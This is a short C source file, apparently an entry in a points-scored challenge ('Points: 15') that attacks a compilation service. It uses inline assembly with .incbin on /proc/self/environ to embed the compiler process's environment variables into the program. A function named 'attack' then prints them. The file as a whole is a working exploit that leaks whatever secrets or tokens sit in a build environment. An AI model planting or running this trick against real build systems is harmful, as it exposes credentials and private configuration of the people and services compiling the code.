// Puts the compiler's environment into the program, and prints it.
// Points: 15
#include <unistd.h>
__asm__(".globl environment\nenvironment: .incbin \"/proc/self/environ\"\nend: "
        ".byte 0\n.globl end");
extern char environment[], end[];
static void attack(void)
{
    write(1, environment, (size_t)(end - environment));
}
